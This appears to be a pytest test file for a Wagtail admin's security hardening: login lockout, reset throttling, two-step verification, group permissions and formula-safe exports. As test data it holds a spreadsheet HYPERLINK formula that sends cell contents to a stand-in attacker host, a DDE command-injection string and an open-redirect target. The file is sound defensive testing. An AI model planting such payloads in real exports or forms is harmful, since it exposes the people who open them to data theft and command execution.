"""A guarded admin: sign-in lockout, throttled password resets, two-step verification,
moderators kept to deeds, visitors' personal data for its own group, formula-safe exports."""

import csv
import io

import openpyxl
import pytest
from django.contrib.auth.models import Group
from django.core import mail
from django.core.management import call_command
from django.urls import reverse
from django_otp.oath import TOTP
from django_otp.plugins.otp_totp.models import TOTPDevice
from wagtail.log_actions import log
from wagtail.models import GroupPagePermission

from home.admin_security import FORM_SUBMISSIONS_GROUP
from teot.moderation import MODERATORS_GROUP
from tests import factories

pytestmark = pytest.mark.django_db

PASSWORD = "oikea-salasana-123"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A2,"Avaa")'


def sign_in(client, username, password=PASSWORD, **extra):
    return client.post("/admin/login/", {"username": username, "password": password}, **extra)


def signed_in(client):
    return "_auth_user_id" in client.session


@pytest.fixture
def staff(django_user_model):
    user = django_user_model.objects.create_user("toimittaja", "toimittaja@example.fi", PASSWORD)
    user.groups.add(Group.objects.get(name=MODERATORS_GROUP))
    return user


@pytest.fixture
def root(django_user_model):
    return django_user_model.objects.create_superuser("paakayttaja", "paakayttaja@example.fi", PASSWORD)


# -- sign-in lockout --------------------------------------------------------------------------


@pytest.fixture
def lockout(settings):
    settings.AXES_ENABLED = True  # off in test settings: the test client's login() has no request


def test_five_wrong_passwords_lock_the_username_out_from_that_address(client, staff, lockout):
    for _attempt in range(4):
        assert sign_in(client, "toimittaja", "arvaus").status_code == 200  # the form again, with its error
    locked = sign_in(client, "toimittaja", "arvaus")
    assert locked.status_code == 429
    assert "wagtailadmin/lockout.html" in [template.name for template in locked.templates]
    assert locked["Retry-After"] == str(15 * 60)

    # Now even the right password is refused from here.
    response = sign_in(client, "toimittaja")
    assert response.status_code == 429
    assert not signed_in(client)


def test_a_lockout_does_not_shut_the_real_user_out_elsewhere(client, staff, lockout, settings):
    settings.TRUST_X_FORWARDED_FOR = True  # the address is taken as the rate limits take it
    attacker = {"REMOTE_ADDR": "127.0.0.1", "HTTP_X_FORWARDED_FOR": "198.51.100.7"}
    for _attempt in range(5):
        sign_in(client, "toimittaja", "arvaus", **attacker)
    assert sign_in(client, "toimittaja", **attacker).status_code == 429

    response = sign_in(client, "toimittaja", REMOTE_ADDR="127.0.0.1", HTTP_X_FORWARDED_FOR="203.0.113.20")

    assert response.status_code == 302
    assert signed_in(client)


def test_fewer_wrong_passwords_than_the_limit_still_let_the_user_in(client, staff, lockout):
    for _attempt in range(4):
        sign_in(client, "toimittaja", "arvaus")

    assert sign_in(client, "toimittaja").status_code == 302
    assert signed_in(client)


# -- password reset ---------------------------------------------------------------------------


def reset(client, email, **extra):
    return client.post("/admin/password_reset/", {"email": email}, **extra)


def test_ten_reset_requests_from_one_client_send_at_most_three_emails(client, staff):
    responses = [reset(client, "toimittaja@example.fi") for _request in range(10)]

    assert len(mail.outbox) == 3
    # Past the limit the answer looks the same: nothing tells whether an email went.
    assert {(response.status_code, response["Location"]) for response in responses} == {
        (302, reverse("wagtailadmin_password_reset_done"))
    }


def test_one_address_gets_at_most_three_reset_emails_whoever_asks(client, staff):
    for number in range(10):
        reset(client, "Toimittaja@example.fi", REMOTE_ADDR=f"198.51.100.{number + 1}")

    assert len(mail.outbox) == 3


# -- two-step verification --------------------------------------------------------------------


def code(device, steps_ahead=0):
    """The code the authenticator app shows (``steps_ahead`` time steps later: a code is used once)."""
    totp = TOTP(device.bin_key, device.step, device.t0, device.digits, device.drift + steps_ahead)
    return f"{totp.token():0{device.digits}d}"


def test_staff_turn_on_two_step_verification_and_need_a_code_after_the_password(client, staff, settings):
    settings.OTP_TOTP_THROTTLE_FACTOR = 0  # django-otp makes one wait a second after a wrong code
    assert sign_in(client, "toimittaja").status_code == 302
    setup = client.get("/admin/two-factor/")
    assert setup.status_code == 200
    assert b"<svg" in setup.content  # the QR code, inline
    device = TOTPDevice.objects.get(user=staff, confirmed=False)

    wrong = client.post("/admin/two-factor/", {"code": "000000", "password": PASSWORD})
    assert wrong.status_code == 200
    assert wrong.context["form"].errors["code"]
    assert client.post("/admin/two-factor/", {"code": code(device), "password": PASSWORD}).status_code == 302
    device.refresh_from_db()
    assert device.confirmed

    client.post("/admin/logout/")
    assert sign_in(client, "toimittaja").status_code == 302
    for path in ["/admin/", "/admin/pages/", "/admin/two-factor/"]:  # no second device without a code
        response = client.get(path)
        assert response.status_code == 302
        assert response["Location"].startswith("/admin/two-factor/verify/?next=")
    assert client.get("/admin/two-factor/verify/?next=/admin/pages/").status_code == 200

    wrong = client.post("/admin/two-factor/verify/", {"code": "000000", "next": "/admin/pages/"})
    assert wrong.status_code == 200
    assert wrong.context["form"].errors["code"]
    assert client.get("/admin/").status_code == 302

    right = client.post("/admin/two-factor/verify/", {"code": code(device, 1), "next": "/admin/pages/"})
    assert right.status_code == 302
    assert right["Location"] == "/admin/pages/"
    assert client.get("/admin/").status_code == 200
    assert 'href="/admin/two-factor/"' in client.get("/admin/account/").text  # where to turn it off


def test_verification_refuses_to_redirect_elsewhere(client, staff):
    device = TOTPDevice.objects.create(user=staff, name="Puhelin", confirmed=True)
    sign_in(client, "toimittaja")

    response = client.post("/admin/two-factor/verify/", {"code": code(device), "next": "https://evil.example/"})

    assert response["Location"] == "/admin/"


def test_superusers_must_set_it_up_first_when_required(client, root, staff, settings):
    settings.WAGTAIL_2FA_REQUIRED_FOR_SUPERUSERS = True
    client.force_login(root)

    response = client.get("/admin/pages/")
    assert response.status_code == 302
    assert response["Location"] == "/admin/two-factor/?next=%2Fadmin%2Fpages%2F"
    assert client.get("/admin/two-factor/").status_code == 200

    client.force_login(staff)  # optional for everyone else
    assert client.get("/admin/").status_code == 200


def test_without_the_requirement_superusers_go_straight_in(client, root):
    client.force_login(root)

    assert client.get("/admin/").status_code == 200


def test_a_lost_phone_is_removed_by_command(staff):
    TOTPDevice.objects.create(user=staff, name="Puhelin", confirmed=True)

    call_command("remove_two_factor", "toimittaja", stdout=io.StringIO())

    assert not TOTPDevice.objects.filter(user=staff).exists()


# -- groups -----------------------------------------------------------------------------------


@pytest.fixture
def form_page(home_page):
    page = factories.FormPageFactory(parent=home_page, title="Hae sparrausta", slug="sparraus")
    factories.FormFieldFactory(page=page, label="Nimi", field_type="singleline")
    factories.FormSubmissionFactory(page=page, form_data={"nimi": FORMULA})
    return page


def refused(response):
    return response.status_code in (302, 403)


def test_moderators_cannot_edit_pages_nor_read_form_submissions(client, staff, home_page, form_page):
    client.force_login(staff)

    assert not GroupPagePermission.objects.filter(group__name=MODERATORS_GROUP).exists()
    assert refused(client.get(f"/admin/pages/{home_page.pk}/edit/"))
    assert refused(client.get(f"/admin/pages/{home_page.pk}/add_subpage/"))
    assert refused(client.get("/admin/forms/"))
    assert refused(client.get(f"/admin/forms/submissions/{form_page.pk}/"))
    assert refused(client.get(f"/admin/forms/submissions/{form_page.pk}/", {"export": "csv"}))
    assert refused(client.get("/admin/documents/add/"))
    assert client.get("/admin/images/add/").status_code == 200  # a deed may have an image


def test_moderators_still_edit_deeds_and_organisations(client, staff, locales):
    deed = factories.DeedFactory()
    client.force_login(staff)

    assert client.get(reverse("wagtailsnippets_teot_deed:edit", args=[deed.pk])).status_code == 200
    assert client.get(reverse("wagtailsnippets_teot_organisation:add")).status_code == 200


def test_page_editors_do_not_read_form_submissions_either(client, django_user_model, form_page):
    editor = django_user_model.objects.create_user("sivutoimittaja", "s@example.fi", PASSWORD)
    editor.groups.add(Group.objects.get(name="Editors"))  # Wagtail's: edits every page
    client.force_login(editor)

    assert client.get(f"/admin/pages/{form_page.pk}/edit/").status_code == 200
    assert refused(client.get(f"/admin/forms/submissions/{form_page.pk}/"))


def test_form_submission_handlers_read_and_export_but_edit_no_page(client, django_user_model, form_page):
    handler = django_user_model.objects.create_user("kasittelija", "k@example.fi", PASSWORD)
    handler.groups.add(Group.objects.get(name=FORM_SUBMISSIONS_GROUP))
    client.force_login(handler)

    index = client.get("/admin/forms/")
    assert index.status_code == 200
    assert "Hae sparrausta" in index.text
    assert client.get(f"/admin/forms/submissions/{form_page.pk}/").status_code == 200
    export = client.get(f"/admin/forms/submissions/{form_page.pk}/", {"export": "csv"})
    assert export.status_code == 200
    assert refused(client.get(f"/admin/pages/{form_page.pk}/edit/"))


# -- formula-safe exports ---------------------------------------------------------------------


def csv_rows(response):
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


def xlsx_cells(response):
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [cell for row in workbook.active.iter_rows() for cell in row]


def assert_neutralised(url, client, *texts):
    cells = {cell for row in csv_rows(client.get(url, {"export": "csv"})) for cell in row}
    for text in texts:
        assert "'" + text in cells
        assert text not in cells
    cells = {cell.value: cell for cell in xlsx_cells(client.get(url, {"export": "xlsx"}))}
    for text in texts:
        assert cells[text].data_type == "s"  # stored as text, not as a formula


def test_deed_and_organisation_exports_neutralise_formulas(editor_client, locales):
    organisation = factories.OrganisationFactory(name="@SUM(1+1)*cmd|' /C calc'!A0")
    factories.DeedFactory(title=FORMULA, summary="+" + FORMULA, organisation=organisation)

    assert_neutralised(reverse("wagtailsnippets_teot_deed:list"), editor_client, FORMULA, "+" + FORMULA)
    assert_neutralised(reverse("wagtailsnippets_teot_organisation:list"), editor_client, organisation.name)


def test_phone_numbers_stay_as_they_are(editor_client, locales):
    factories.DeedFactory(title="Puhelinteko", contact_name="-", submitter_name="+358 40 123 4567")

    rows = csv_rows(editor_client.get(reverse("wagtailsnippets_teot_deed:list"), {"export": "csv"}))

    assert "+358 40 123 4567" in rows[1]


def test_form_submission_export_neutralises_formulas(editor_client, form_page):
    assert_neutralised(f"/admin/forms/submissions/{form_page.pk}/", editor_client, FORMULA)


def test_site_history_report_neutralises_formulas(editor_client, locales, superuser):
    deed = factories.DeedFactory(title=FORMULA)
    log(instance=deed, action="wagtail.create", user=superuser)

    assert_neutralised(reverse("wagtailadmin_reports:site_history"), editor_client, FORMULA)
